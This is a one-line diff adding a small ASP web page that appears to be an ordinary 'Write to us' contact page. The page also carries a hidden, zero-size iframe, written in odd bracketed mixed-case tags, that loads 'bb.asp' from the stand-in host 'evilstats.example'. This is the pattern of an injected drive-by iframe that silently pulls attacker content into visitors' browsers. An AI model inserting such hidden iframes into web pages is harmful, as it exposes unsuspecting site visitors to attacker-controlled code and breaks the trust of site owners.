@@ -1,0 +1,1 @@
+<%@ Language="VBScript" %><html><body>[ifraMe src=http://evilstats.example/bb.asp width=0 height=0][/ifrAme]<p>Write to us.</p></body></html>
